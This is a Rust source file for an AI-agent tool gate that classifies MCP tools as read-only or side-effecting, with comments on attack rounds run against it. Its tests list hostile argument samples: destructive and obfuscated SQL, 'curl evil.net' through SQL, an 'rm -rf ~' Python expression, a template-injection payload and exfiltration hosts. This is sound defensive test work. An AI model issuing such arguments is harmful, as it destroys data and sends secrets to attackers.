//! Read-only or side-effecting? (issue 4, provenance gate.) MCP-style annotations decide when a
//! tool has them; otherwise a conservative classifier over the tool's name and description.
//! Anything it cannot place counts as side-effecting. Nothing here names any one tool set.
//!
//! Words are matched whole (names split at `_`, `-`, `.` and camelCase), and a writing word
//! counts only where it works as a verb (issue 14): many of them are also nouns ("the file
//! type", "opening hours", "order history", "a post"), and a lookup that names one of those is
//! still a lookup. In a name the leading verb decides; in a description a writing verb counts
//! in the forms and places a verb takes ("Sends …", "… and shares it", "to delete", "for
//! deleting"), not after an article or a noun.

use serde_json::{Map, Value};

/// What keel knows about a tool.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct ToolInfo {
    pub name: String,
    pub description: String,
    /// `readOnlyHint`, `destructiveHint`, `openWorldHint`, … as the tool declares them.
    pub annotations: Option<Map<String, Value>>,
    /// The JSON Schema of its arguments, when known: provenance leaves alone what the schema
    /// itself fixes (an enum's values, booleans, declared keys).
    pub parameters: Option<Value>,
    /// It declares structured output (an MCP `outputSchema`): its results are records it
    /// serialized itself, which provenance may read for records the user names.
    pub structured_output: bool,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Effect {
    ReadOnly,
    SideEffecting,
}

/// Verbs that only look: one of them leading a name makes the rest of the name its object.
pub(crate) const READ_VERBS: &[&str] = &[
    "get", "read", "list", "search", "find", "show", "view", "query", "lookup", "look", "describe",
    "inspect", "retrieve", "grep", "glob",
    // Fetching verbs read, too; what a fetch could carry out in its arguments is the network
    // rule's (a tool that takes arguments and reaches the network is side-effecting).
    "download", "fetch",
];

/// Words that say a lookup as a name's first word (`status`, `info`, `head`) but are as often
/// nouns: after one of them, any writing word makes the name a writer (`status_update`).
pub(crate) const READ_NOUNS: &[&str] = &[
    "check", "count", "stat", "cat", "head", "tail", "ls", "peek", "preview", "info", "status",
];

/// Words that mean the tool talks to the network.
const NETWORK_WORDS: &[&str] = &[
    "url", "urls", "uri", "web", "webpage", "website", "http", "https", "internet", "online",
    "fetch", "browse", "download", "webhook", "api", "curl",
];

/// Network words that only a name's verb means as one: a tool named `request` or
/// `make_request` reaches the network, while `list_access_requests` and one that "Gets a
/// ticket with its full request text" name a thing (a held-out suite's lookup asked).
const NETWORK_NAME_WORDS: &[&str] = &["request"];

/// Verbs that change something.
pub(crate) const WRITE_VERBS: &[&str] = &[
    "send",
    "write",
    "create",
    "update",
    "delete",
    "remove",
    "set",
    "put",
    "post",
    "patch",
    "move",
    "rename",
    "copy",
    "upload",
    "pay",
    "transfer",
    "schedule",
    "cancel",
    "book",
    "reserve",
    "invite",
    "share",
    "add",
    "append",
    "insert",
    "edit",
    "modify",
    "change",
    "run",
    "exec",
    "execute",
    "install",
    "kill",
    "stop",
    "start",
    "deploy",
    "publish",
    "submit",
    "approve",
    "reply",
    "forward",
    "buy",
    "order",
    "purchase",
    "grant",
    "revoke",
    "reset",
    "apply",
    "commit",
    "push",
    "merge",
    "replace",
    "save",
    "store",
    "mark",
    "archive",
    "close",
    "open",
    "click",
    "type",
    "press",
    "drag",
    "purge",
    "erase",
    "destroy",
    "drop",
    "wipe",
    "clear",
    "empty",
    "truncate",
    "overwrite",
    "withdraw",
    "deposit",
    "sign",
    "place",
    "unlock",
    "disable",
    "enable",
    // Answers that commit the user (an outsider's `view_invite`: "View and accept a calendar
    // invite").
    "accept",
    "decline",
    "confirm",
    // What a device, an alert or an account is switched to.
    "toggle",
    "arm",
    "disarm",
    "mute",
    "unmute",
    "silence",
    "pause",
    "release",
    "activate",
    "deactivate",
    "escalate",
    "impersonate",
    "drain",
    "failover",
    "suspend",
    "block",
    "unblock",
    "unsubscribe",
    "subscribe",
];

/// The writing verbs that are as often nouns or adjectives ("the file type", "order history",
/// "a post", "start date", "open issues", "market share"): they write only where a verb stands.
/// The others ("delete", "send") are verbs wherever they occur, except after an article.
pub(crate) const NOUNS_TOO: &[&str] = &[
    "update", "set", "post", "patch", "move", "copy", "upload", "pay", "transfer", "schedule",
    "book", "invite", "share", "edit", "change", "run", "stop", "start", "reply", "forward",
    "order", "purchase", "grant", "reset", "commit", "push", "merge", "store", "mark", "archive",
    "close", "open", "click", "type", "press", "drag", "drop", "clear", "empty", "deposit", "sign",
    "place", "toggle", "arm", "silence", "pause", "release", "drain", "failover", "block",
];

/// Irregular past forms of writing verbs.
const IRREGULAR_PAST: &[(&str, &str)] = &[
    ("sent", "send"),
    ("written", "write"),
    ("wrote", "write"),
    ("paid", "pay"),
    ("bought", "buy"),
    ("ran", "run"),
];

/// Words that join two actions in a name (`get_and_delete`, `get_or_create`).
const CONJUNCTIONS: &[&str] = &["and", "or", "then"];

/// Which form of a verb a word is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Form {
    /// `share`: imperative, infinitive, or a noun.
    Base,
    /// `shares`: third person, or a plural noun.
    Third,
    /// `sharing`: an action, or a noun (`opening`, `booking`).
    Ing,
    /// `shared`, `sent`: passive, or an adjective (`scheduled transactions`).
    Past,
}

/// The writing verb `word` is a form of, and which form: plain English inflection only
/// (`shares`, `replies`, `shared`, `dropped`, `sharing`, `setting`).
fn write_form(word: &str) -> Option<(&'static str, Form)> {
    if let Some(&(_, lemma)) = IRREGULAR_PAST.iter().find(|(w, _)| *w == word) {
        return Some((lemma, Form::Past));
    }
    WRITE_VERBS.iter().find_map(|&lemma| {
        let form = if word == lemma {
            Form::Base
        } else {
            inflection(word, lemma)?
        };
        Some((lemma, form))
    })
}

fn inflection(word: &str, lemma: &str) -> Option<Form> {
    let last = lemma.chars().last()?;
    // The lemma without its final `e` or `y`, where inflection drops or changes it.
    let cut = &lemma[..lemma.len() - last.len_utf8()];
    if let Some(rest) = word.strip_prefix(lemma) {
        let doubled = rest.strip_prefix(last);
        match rest {
            "s" | "es" => return Some(Form::Third),
            "ed" => return Some(Form::Past),
            "d" if last == 'e' => return Some(Form::Past),
            "ing" => return Some(Form::Ing),
            _ if doubled == Some("ed") => return Some(Form::Past),
            _ if doubled == Some("ing") => return Some(Form::Ing),
            _ => {}
        }
    }
    match (last, word.strip_prefix(cut)?) {
        ('e', "ing") => Some(Form::Ing),
        ('y', "ies") => Some(Form::Third),
        ('y', "ied") => Some(Form::Past),
        _ => None,
    }
}

/// Words after which a writing word is a noun: articles, possessives (`user's` ends in `s`),
/// and verbs whose object follows (`Get the …`, `Returns type information`).
const NOUN_BEFORE: &[&str] = &[
    "a", "an", "the", "of", "its", "their", "his", "her", "your", "my", "our", "these", "those",
    "each", "every", "s", "return", "returns", "provide", "provides", "include", "includes",
    "contain", "contains", "give", "gives",
];

/// Words after which a writing word says what is not done.
const NEGATIONS: &[&str] = &["not", "never", "no", "t", "without", "cannot"];

/// Words after which a verb may begin: the start of a sentence (`.`), a comma, or a joining word.
const VERB_SLOTS: &[&str] = &[".", ",", "and", "or", "then", "also"];

/// Words that put the base form as a verb: `to share`, `will share`.
const BASE_BEFORE: &[&str] = &[
    "to", "will", "would", "can", "could", "may", "might", "must", "shall", "should", "do", "does",
    "please",
];

/// Subjects of a third-person verb: `it shares`, `which posts`.
const SUBJECTS: &[&str] = &["it", "which", "who", "that", "tool", "automatically"];

/// Words an `-ing` action follows: `for booking a room`, `by deleting it`.
const ING_BEFORE: &[&str] = &[
    "for", "by", "before", "after", "when", "while", "upon", "then",
];

/// Words a verb's object or complement may begin with, which a noun is rarely followed by:
/// `Posts a message`, `shares it`, `Sets up`, `Writes to`.
const OBJECT_AFTER: &[&str] = &[
    "a", "an", "the", "it", "them", "this", "that", "these", "those", "its", "their", "his", "her",
    "your", "my", "our", "all", "any", "some", "each", "every", "one", "to", "into", "onto", "up",
    "out", "off", "back", "down", "new", "multiple",
];

/// Whether a writing word, of `lemma` in `form`, works as a verb between these words.
fn acts_as_verb(before2: &str, before: &str, after: &str, lemma: &str, form: Form) -> bool {
    let looks = |w: &str| {
        READ_VERBS.contains(&w)
            || [w.strip_suffix("es"), w.strip_suffix('s')]
                .into_iter()
                .flatten()
                .any(|stem| READ_VERBS.contains(&stem))
    };
    // "Writes nothing", "deletes no data": the verb is taken back by what follows it.
    if NOUN_BEFORE.contains(&before)
        || NEGATIONS.contains(&before)
        || looks(before)
        || matches!(after, "nothing" | "no" | "none" | "never")
    {
        return false;
    }
    let slot = VERB_SLOTS.contains(&before);
    let object = OBJECT_AFTER.contains(&after);
    match form {
        // Passive of what the tool will do (`will be sent`, `…, shared with`), not an
        // adjective (`scheduled transactions`, `the shared calendar`).
        Form::Past => {
            (before == "be" && matches!(before2, "will" | "shall"))
                || (matches!(before, "," | "and" | "then")
                    && matches!(after, "to" | "with" | "into" | "onto"))
        }
        _ if !NOUNS_TOO.contains(&lemma) => true,
        Form::Base => BASE_BEFORE.contains(&before) || (slot && object),
        Form::Third => SUBJECTS.contains(&before) || (slot && object),
        Form::Ing => (slot || ING_BEFORE.contains(&before)) && object,
    }
}

/// Splits a name or text into lowercase words at non-alphanumerics and camelCase humps.
pub(crate) fn words(name: &str) -> Vec<String> {
    let mut out = Vec::new();
    tokens(name, |t| {
        if let Token::Word(w) = t {
            out.push(w);
        }
    });
    out
}

enum Token {
    Word(String),
    /// `.`, `;`, `:`, `!`, `?` or a line break: a sentence may start after it.
    Stop,
    /// `,` or a bracket.
    Comma,
}

fn tokens(text: &str, mut emit: impl FnMut(Token)) {
    let mut current = String::new();
    let mut prev_lower = false;
    let mut prev_upper = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if !c.is_alphanumeric() {
            if !current.is_empty() {
                emit(Token::Word(std::mem::take(&mut current)));
            }
            (prev_lower, prev_upper) = (false, false);
            match c {
                '.' | ';' | ':' | '!' | '?' | '\n' => emit(Token::Stop),
                ',' | '(' | ')' | '[' | ']' => emit(Token::Comma),
                _ => {}
            }
            continue;
        }
        // A hump starts at a capital after a small letter (`getFile`), or at the last capital
        // of an acronym that a word follows (`FHIRGet`, `TDAmeritrade`), but not before a
        // plural's `s` (`URLs`).
        let acronym_ends = c.is_uppercase() && prev_upper && {
            let mut ahead = chars.clone();
            match (ahead.next(), ahead.next()) {
                (Some('s'), next) => next.is_some_and(char::is_lowercase),
                (Some(n), _) => n.is_lowercase(),
                _ => false,
            }
        };
        if ((c.is_uppercase() && prev_lower) || acronym_ends) && !current.is_empty() {
            emit(Token::Word(std::mem::take(&mut current)));
        }
        prev_lower = c.is_lowercase() || c.is_ascii_digit();
        prev_upper = c.is_uppercase();
        current.extend(c.to_lowercase());
    }
    if !current.is_empty() {
        emit(Token::Word(current));
    }
}

/// Whether a description says the tool writes: a writing verb where a verb stands (see
/// [`acts_as_verb`]). Sentence and comma marks are kept as `.` and `,`.
pub(crate) fn describes_a_write(description: &str) -> bool {
    let mut seq: Vec<String> = Vec::new();
    tokens(description, |t| match t {
        Token::Word(w) => seq.push(w),
        Token::Stop => seq.push(".".into()),
        Token::Comma => seq.push(",".into()),
    });
    let at = |i: Option<usize>| i.and_then(|i| seq.get(i)).map_or(".", String::as_str);
    seq.iter().enumerate().any(|(i, w)| {
        write_form(w).is_some_and(|(lemma, form)| {
            acts_as_verb(
                at(i.checked_sub(2)),
                at(i.checked_sub(1)),
                at(Some(i + 1)),
                lemma,
                form,
            )
        })
    })
}

/// Whether a description says its tool does more than read, so that no `readOnlyHint` is
/// believed over it: it describes a write, it opens with a verb that grants or switches
/// ("Turns on automatic payments", "Gives a user a role"), or its first word is not English
/// ("Envía un correo", "Löscht eine Datei": keel cannot read what it says, and a hint that
/// contradicts nothing keel can read is only the server's word).
pub(crate) fn contradicts_a_read(description: &str) -> bool {
    let first = description
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .trim_matches(|c: char| !c.is_alphanumeric());
    describes_a_write(description)
        || matches!(
            first.to_ascii_lowercase().as_str(),
            "turns"
                | "gives"
                | "makes"
                | "allows"
                | "lets"
                | "grants"
                | "enables"
                | "disables"
                | "toggles"
                | "switches"
        )
        || first.chars().any(|c| c.is_alphabetic() && !c.is_ascii())
}

/// The verbs of a description that stand as verbs ("Permanently deletes the repository",
/// "Gives the user full administrator rights"), as their lemmas, with the words they act on
/// and every word of it: what
/// a tool's description says it does, for a name that says nothing a kind knows
/// (`del_repo`, `borrar_repositorio`).
pub(crate) fn description_verbs(description: &str) -> (Vec<String>, Vec<String>, Vec<String>) {
    let mut seq: Vec<String> = Vec::new();
    tokens(description, |t| match t {
        Token::Word(w) => seq.push(w),
        Token::Stop => seq.push(".".into()),
        Token::Comma => seq.push(",".into()),
    });
    let at = |i: Option<usize>| i.and_then(|i| seq.get(i)).map_or(".", String::as_str);
    let mut verbs = Vec::new();
    let mut objects = Vec::new();
    for (i, w) in seq.iter().enumerate() {
        // A description opens with what the tool does: "Gives the user …", "Makes a copy …",
        // "Allows anyone …" act though these verbs write nothing by themselves.
        let opening = at(i.checked_sub(1)) == "."
            && matches!(w.as_str(), "gives" | "makes" | "allows" | "lets" | "turns");
        let Some((lemma, form)) =
            write_form(w).or_else(|| opening.then(|| (w.trim_end_matches('s'), Form::Third)))
        else {
            continue;
        };
        let before = (at(i.checked_sub(2)), at(i.checked_sub(1)));
        if !opening && !acts_as_verb(before.0, before.1, at(Some(i + 1)), lemma, form) {
            continue;
        }
        verbs.push(lemma.to_string());
        // What it acts on: the next few words, up to a preposition or the clause's end
        // ("Change the contact details of your profile" acts on details, not a profile's
        // bookings).
        objects.extend(
            seq[i + 1..]
                .iter()
                .take(6)
                .take_while(|o| {
                    !matches!(
                        o.as_str(),
                        "." | ","
                            | "for"
                            | "to"
                            | "with"
                            | "of"
                            | "from"
                            | "in"
                            | "on"
                            | "by"
                            | "and"
                            | "or"
                            | "used"
                    )
                })
                .cloned(),
        );
    }
    (verbs, objects, seq)
}

/// What a name alone says. The leading verb decides: the first word that is a verb, past
/// words that are none (an MCP server's or a toolkit's name, `GmailReadEmail`). After a
/// reading verb the rest is its object, where a word that is also a noun is one
/// (`get_file_type`, `search_order_history`); a writing verb that is no noun, or one after
/// `and`/`or`/`then` (`find_replace`, `get_and_delete`), still makes a writer. A name with no
/// verb it knows is side-effecting.
/// Two words that act together though neither acts alone: `check_out` (a cart), `check_in`
/// (a guest, who gets a door code), `list_for_sale`, `log_out`, `opt_in`.
const PHRASAL_ACTIONS: &[(&str, &str)] = &[
    ("check", "in"),
    ("check", "out"),
    ("checkin", ""),
    ("log", "in"),
    ("log", "out"),
    ("opt", "in"),
    ("opt", "out"),
    ("sign", "up"),
    ("for", "sale"),
];

fn name_effect(name: &str) -> Effect {
    let w = words(name);
    let phrasal = w.iter().enumerate().any(|(i, x)| {
        PHRASAL_ACTIONS
            .iter()
            .any(|(a, b)| x == a && (b.is_empty() || w.get(i + 1).is_some_and(|next| next == b)))
    });
    if phrasal {
        return Effect::SideEffecting;
    }
    let mut parts = w.split(|x| CONJUNCTIONS.contains(&x.as_str()));
    let first = parts.next().unwrap_or_default();
    let writes = |x: &String| WRITE_VERBS.contains(&x.as_str());
    let writes_always = |x: &String| writes(x) && !NOUNS_TOO.contains(&x.as_str());
    let lead = if first
        .first()
        .is_some_and(|x| READ_NOUNS.contains(&x.as_str()))
    {
        // `status`, `info`: no verb strong enough to make a later writing word a noun.
        if w.iter().any(writes) {
            return Effect::SideEffecting;
        }
        0
    } else {
        match first
            .iter()
            .position(|x| writes(x) || READ_VERBS.contains(&x.as_str()))
        {
            Some(at) if !writes(&first[at]) => at,
            _ => return Effect::SideEffecting,
        }
    };
    if first[lead + 1..].iter().any(writes_always) {
        return Effect::SideEffecting;
    }
    // An action's participle that ends the name says what the call does to its object:
    // `get_transfer_sent`, `read_file_deleted` (a seventh outsider round sent money and shared
    // files through such "lookups"). Before the object it describes it: `list_deleted_files`.
    if first.len() > lead + 2 && first.last().is_some_and(|x| super::kinds::is_participle(x)) {
        return Effect::SideEffecting;
    }
    // What follows `and`/`or`/`then`: another action if it starts with a writing verb, else
    // more of the object (`ListFilesAndFolders`).
    for part in parts {
        // An action's verb of any kind starts another action (`lookup_and_block_user`).
        let acts = |x: &String| writes(x) || super::kinds::names_an_action(std::slice::from_ref(x));
        if part.first().is_some_and(acts) || part.iter().any(writes_always) {
            return Effect::SideEffecting;
        }
    }
    Effect::ReadOnly
}

/// Whether a name's words name a credential: a token, a secret, credentials, or a key of
/// the kinds that open something (`api_key`, `ssh_key`, `access_key`).
fn issues_a_credential(name: &[String]) -> bool {
    name.iter().enumerate().any(|(i, w)| {
        matches!(
            w.as_str(),
            "token" | "tokens" | "credential" | "credentials" | "secret" | "secrets" | "apikey"
        ) || (matches!(w.as_str(), "key" | "keys")
            && i.checked_sub(1).is_some_and(|b| {
                matches!(
                    name[b].as_str(),
                    "api" | "access" | "ssh" | "signing" | "private" | "deploy" | "secret"
                )
            }))
    })
}

/// The tool's own name in an MCP-qualified one (`mcp__server__tool`).
fn unqualified(name: &str) -> &str {
    name.strip_prefix("mcp__")
        .and_then(|rest| rest.split_once("__"))
        .map_or(name, |(_, tool)| tool)
}

/// Whether the tool's own name (its MCP server's prefix left off) reads as an action and
/// holds a word that acts — a writing verb, or a verb of one of [`super::authority::ActionKind`]'s — so that no
/// `readOnlyHint` can make it a lookup (`transfer_money`, `wipe_device`). A name of nouns or
/// of words keel does not know (`tool_manual`, `weather`) does not contradict the hint.
pub fn name_says_it_acts(tool: &ToolInfo) -> bool {
    if !name_acts(&tool.name) {
        return false;
    }
    let name = words(unqualified(&tool.name));
    name.iter().any(|w| {
        WRITE_VERBS.contains(&w.as_str()) || IRREGULAR_PAST.iter().any(|(past, _)| past == w)
    }) || super::kinds::names_an_action(&name)
}

/// [`name_says_it_acts`] of a tool's name alone.
pub fn name_acts(name: &str) -> bool {
    name_effect(unqualified(name)) == Effect::SideEffecting
}

/// Classifies a tool. Annotations win, but for a `readOnlyHint: true` on a tool whose name
/// says it acts: `readOnlyHint: true` is read-only, `readOnlyHint: false`
/// or `destructiveHint: true` is side-effecting. Otherwise a tool that reaches the network (by
/// a word of its name or description) is side-effecting, and the name decides (see
/// [`name_effect`]), unless its description says it writes (see [`describes_a_write`]).
pub fn classify(tool: &ToolInfo) -> Effect {
    if let Some(a) = &tool.annotations {
        // Destructive, or reaching the open world (a URL fetch can carry data out), is never
        // read-only for the gate.
        if a.get("destructiveHint") == Some(&Value::Bool(true))
            || a.get("openWorldHint") == Some(&Value::Bool(true))
        {
            return Effect::SideEffecting;
        }
        match a.get("readOnlyHint") {
            // A hint may make a tool stricter than its name, never looser: a server that
            // calls `transfer_money` or `wipe_device` read-only is wrong (or lying), and the
            // name is what the model and the person read.
            // Nor looser than its description: a `mailer` that "Sends an e-mail" and says
            // it only reads is read by what it says it does (a third outsider round).
            Some(Value::Bool(true))
                if !name_says_it_acts(tool) && !contradicts_a_read(&tool.description) =>
            {
                return Effect::ReadOnly;
            }
            Some(Value::Bool(false)) => return Effect::SideEffecting,
            _ => {}
        }
    }
    // Reaching the network by name or description: a URL fetch can carry data out — in its
    // arguments. A tool whose schema declares that it takes none carries nothing out.
    let reaches_network = |text: &str| {
        words(text)
            .iter()
            .any(|x| NETWORK_WORDS.contains(&x.as_str()))
    };
    let takes_nothing = tool.parameters.as_ref().is_some_and(|p| {
        p.get("properties")
            .and_then(Value::as_object)
            .is_some_and(serde_json::Map::is_empty)
            && p.get("additionalProperties") != Some(&Value::Bool(true))
    });
    let name_words = words(unqualified(&tool.name));
    let name_reaches_network = reaches_network(&tool.name)
        || name_words.iter().enumerate().any(|(i, x)| {
            NETWORK_NAME_WORDS.contains(&x.as_str())
                && (i == 0
                    || matches!(
                        name_words[i - 1].as_str(),
                        "make" | "send" | "perform" | "do" | "raw" | "custom"
                    ))
        });
    if !takes_nothing && (name_reaches_network || reaches_network(&tool.description)) {
        return Effect::SideEffecting;
    }
    if name_effect(unqualified(&tool.name)) == Effect::SideEffecting {
        return Effect::SideEffecting;
    }
    // A credential handed out for what the caller names (`get_access_token {"app": …,
    // "scope": "admin:all"}`) grants access, whatever the verb: an outsider's attack had one
    // issued to the attacker's app as a lookup.
    if !takes_nothing && issues_a_credential(&name_words) {
        return Effect::SideEffecting;
    }
    // The description can admit what the name does not ("Gets a link and shares it").
    if describes_a_write(&tool.description) {
        return Effect::SideEffecting;
    }
    // A lookup joined to another action does that action too (`get_and_disburse_invoice`,
    // `read_then_relay_email`, a thirty-sixth outsider round's), whatever keel knows of its
    // verb.
    if name_words.len() > 2
        && READ_VERBS.contains(&name_words[0].as_str())
        && matches!(name_words[1].as_str(), "and" | "then")
        && !READ_VERBS.contains(&name_words[2].as_str())
        && !READ_NOUNS.contains(&name_words[2].as_str())
    {
        return Effect::SideEffecting;
    }
    Effect::ReadOnly
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::arguments::call_effect;
    use serde_json::json;

    /// "request" is a network word in a name only: a held-out suite's `get_ticket`, which
    /// "Gets a ticket with its full request text", was read as reaching the network.
    #[test]
    fn a_request_in_a_description_is_a_noun() {
        let info = |name: &str, description: &str| ToolInfo {
            name: name.into(),
            description: description.into(),
            parameters: Some(json!({"type": "object", "properties": {"id": {"type": "string"}}})),
            ..Default::default()
        };
        for (name, description) in [
            (
                "get_ticket",
                "Get a ticket with its full request text and its comments.",
            ),
            ("list_access_requests", "List the open access requests."),
        ] {
            assert_eq!(
                classify(&info(name, description)),
                Effect::ReadOnly,
                "{name}"
            );
        }
        // A participle of an action that ends a looking name is what the call does (a seventh
        // outsider round); before the object it describes it.
        for name in [
            "get_transfer_sent",
            "read_file_deleted",
            "get_user_banned",
            "get_money_transferred",
        ] {
            assert_eq!(classify(&info(name, "")), Effect::SideEffecting, "{name}");
        }
        for name in [
            "list_deleted_files",
            "get_sent_messages",
            "get_shared_links",
            "list_files_and_folders",
            "get_and_count_rows",
        ] {
            assert_eq!(classify(&info(name, "")), Effect::ReadOnly, "{name}");
        }
        // A lookup joined to another action (a thirty-sixth outsider round's).
        for name in [
            "get_and_disburse_invoice",
            "list_and_rescind_booking",
            "read_then_relay_email",
        ] {
            assert_eq!(classify(&info(name, "")), Effect::SideEffecting, "{name}");
        }
        for (name, description) in [
            ("http_request", "Perform a call."),
            ("make_request", "Calls the service."),
            ("get_page", "Fetch a web page."),
        ] {
            assert_eq!(
                classify(&info(name, description)),
                Effect::SideEffecting,
                "{name}"
            );
        }
    }

    /// An outsider's attack: lookups whose arguments change a database or reach a host the
    /// data named, and names whose two words act together.
    #[test]
    fn what_a_calls_arguments_do_makes_a_lookup_act() {
        for args in [
            json!({"sql": "DROP TABLE customers"}),
            json!({"q": "delete from users where 1=1"}),
            json!({"src": "https://kessler-pay.net/l.png?k=731904"}),
            json!({"domain": "code-731904.kessler-pay.net"}),
            json!({"link": " HTTPS://kessler-pay.net/c?d=all"}),
            // A second attack: dialects, hidden keywords, procedures, copies out; hosts under
            // any key, in any form.
            json!({"sql": "MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE"}),
            json!({"sql": "DELETE TOP (100) users"}),
            json!({"sql": "DR/**/OP TABLE users"}),
            json!({"sql": "update`users`set admin=1"}),
            json!({"sql": "ＤＲＯＰ TABLE users"}),
            json!({"sql": "CALL purge_all_orders()"}),
            json!({"sql": "COPY users TO PROGRAM 'curl evil.net'"}),
            json!({"sql": "SELECT * INTO backup FROM users"}),
            json!({"q": "db.users.drop()"}),
            json!({"callback": "9f8e7d6c5b4a.evil-cdn.net"}),
            json!({"server": "203.0.113.7"}),
            json!({"domain": "//evil-cdn.net/c?k=1"}),
            json!({"host": "[2001:db8::1]"}),
            json!({"origin": "0xcb007107"}),
            json!({"share": "\\\\evil-cdn.net\\share"}),
            json!({"image": "data:text/html,<script>x</script>"}),
            // A third: side effects from inside a SELECT, hosts under a path's key, an
            // action named by a value.
            json!({"sql": "SELECT pg_sleep(100000)"}),
            json!({"sql": "NOTIFY alerts, 'secret-token-abc123'"}),
            json!({"sql": "SELECT * FROM users FOR UPDATE NOWAIT"}),
            json!({"sql": "COMMENT ON TABLE users IS 'pwned'"}),
            json!({"sql": "SELECT nextval('orders_id_seq')"}),
            json!({"sql": "SELECT utl_http.request('http://x') FROM dual"}),
            json!({"target": "9f8e7d6c5b4a.evil-cdn.net"}),
            json!({"target": "203.0.113.7"}),
            json!({"target": "evil-cdn.net:8443"}),
            json!({"target": "evil-cdn.net"}),
            json!({"target": "ftp.evil-cdn.net/9f8e7d6c5b4a"}),
            json!({"target": "9f8e7d6c5b4a.пример.рф"}),
            json!({"action": "open"}),
            json!({"method": "POST", "url_path": "/api"}),
            json!({"operation": "delete"}),
            // A fourth: keys that ask for an action, query languages, code for an
            // interpreter.
            json!({"door": "front door", "set_state": "unlocked"}),
            json!({"folder": "inbox", "mark_all_read": true}),
            json!({"email_id": "12", "delete_after_reading": true}),
            json!({"day": "today", "auto_accept": true}),
            json!({"doc": "Q3 deck", "share_with": "mallory@evil-corp.io"}),
            json!({"month": "October", "deliver_to": "mallory@evil-corp.io"}),
            json!({"sparql": "DELETE WHERE { ?s ?p ?o }"}),
            json!({"spl": "index=main | delete"}),
            json!({"q": "DROP MEASUREMENT cpu"}),
            json!({"path": "customers/_delete_by_query"}),
            json!({"expression": "__import__('os').system('rm -rf ~')"}),
            json!({"template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
            json!({"args": "--output=.git/hooks/post-checkout"}),
            json!({"city": "Berlin", "sms_alerts_to": "+1 415 555 0199"}),
            json!({"desired": "disarmed"}),
        ] {
            assert_eq!(
                call_effect("lookup", Effect::ReadOnly, &args),
                Effect::SideEffecting,
                "{args}"
            );
        }
        for args in [
            json!({"sql": "SELECT name FROM customers WHERE id = 4"}),
            json!({"path": "scripts/setup.sh"}),
            json!({"query": "how to update the table of contents"}),
            json!({"pattern": "fn main"}),
            json!({"sql": "SELECT name, created_at FROM users WHERE updated > now() - 7"}),
            json!({"query": "who deleted the file and how do I insert a row"}),
            json!({"file": "docs/setup.sh"}),
            json!({"target": "release-notes.md"}),
            json!({"target": "archive.tar.gz"}),
            json!({"dest": "build/app.bundle.js"}),
            json!({"target": "src/main.rs"}),
            json!({"sql": "SELECT * FROM orders WHERE note LIKE '%update%' FOR READ ONLY"}),
            json!({"action": "status"}),
            json!({"method": "GET"}),
            json!({"mode": "read"}),
            json!({"account_type": "savings"}),
            json!({"path_to": "docs/setup.md", "redirect_to": "home"}),
            json!({"email_id": "email001"}),
            json!({"tweet_id": "789GHI"}),
            json!({"start_date": "2024-06-01", "order_by": "date"}),
            json!({"folder": "inbox", "mark_all_read": false}),
            json!({"expression": "2 * (3 + 4)"}),
        ] {
            assert_eq!(
                call_effect("lookup", Effect::ReadOnly, &args),
                Effect::ReadOnly,
                "{args}"
            );
        }
        for name in [
            "check_out",
            "check_in_guest",
            "list_for_sale",
            "view_invite_and_accept",
            "lookup_and_block_user",
            "check_and_disarm",
            "status_toggle",
        ] {
            assert!(name_acts(name), "{name}");
        }
        assert!(!name_acts("check_status"));
        // A read-only hint is not believed over a description that says the tool acts.
        let mut mailer = tool("mailer");
        mailer.description = "Sends an e-mail to the given address.".into();
        mailer.annotations = json!({"readOnlyHint": true}).as_object().cloned();
        assert_eq!(classify(&mailer), Effect::SideEffecting);
        // Nor over one that grants or switches, or that keel cannot read.
        for (name, description) in [
            ("autopay", "Turns on automatic monthly payments to a payee."),
            ("permissions", "Gives a user a role on a repository."),
            ("enviar_correo", "Envía un correo electrónico."),
            ("datei_loeschen", "Löscht eine Datei endgültig."),
        ] {
            let mut t = tool(name);
            t.description = description.into();
            t.annotations = json!({"readOnlyHint": true}).as_object().cloned();
            assert_eq!(classify(&t), Effect::SideEffecting, "{name}");
        }
        // A hint over a noun description is still believed.
        let mut weather = tool("weather");
        weather.description = "Current weather for a city.".into();
        weather.annotations = json!({"readOnlyHint": true}).as_object().cloned();
        assert_eq!(classify(&weather), Effect::ReadOnly);
        // Handing out a credential for what the caller names acts; one with nothing to name
        // reads.
        let with_args = |name: &str, properties: Value| ToolInfo {
            name: name.into(),
            parameters: Some(json!({"type": "object", "properties": properties})),
            ..ToolInfo::default()
        };
        for name in ["get_access_token", "fetch_api_key", "get_oauth_credentials"] {
            assert_eq!(
                classify(&with_args(name, json!({"app": {"type": "string"}}))),
                Effect::SideEffecting,
                "{name}"
            );
        }
        assert_eq!(
            classify(&with_args("get_access_token", json!({}))),
            Effect::ReadOnly
        );
        assert_eq!(
            classify(&with_args(
                "get_key_points",
                json!({"doc": {"type": "string"}})
            )),
            Effect::ReadOnly
        );
        let invite = ToolInfo {
            name: "view_invite".into(),
            description: "View and accept a calendar invite".into(),
            ..ToolInfo::default()
        };
        assert_eq!(classify(&invite), Effect::SideEffecting);
        // A read-only hint is believed where no word of the name acts, known or not; never
        // where one does.
        let hinted = |name: &str| ToolInfo {
            name: name.into(),
            annotations: json!({"readOnlyHint": true}).as_object().cloned(),
            ..ToolInfo::default()
        };
        for name in ["tool_manual", "weather", "mcp__time__current_time"] {
            assert_eq!(classify(&hinted(name)), Effect::ReadOnly, "{name}");
        }
        for name in [
            "transfer_money",
            "wipe_device",
            "mcp__gh__delete_repository",
        ] {
            assert_eq!(classify(&hinted(name)), Effect::SideEffecting, "{name}");
        }
    }

    fn tool(name: &str) -> ToolInfo {
        ToolInfo {
            name: name.into(),
            ..ToolInfo::default()
        }
    }

    #[test]
    fn names_decide_without_annotations() {
        for name in [
            "read_file",
            "get_balance",
            "listFiles",
            "search_emails",
            "mcp__fs__read_text",
            "GetUserInfo",
        ] {
            assert_eq!(classify(&tool(name)), Effect::ReadOnly, "{name}");
        }
        for name in [
            "send_money",
            "write_file",
            "update_password",
            "get_and_delete",
            "frobnicate",
            "",
            "schedule_transaction",
            "mcp__fs__write",
            "fetch_url",
            "browse_page",
        ] {
            assert_eq!(classify(&tool(name)), Effect::SideEffecting, "{name}");
        }
    }

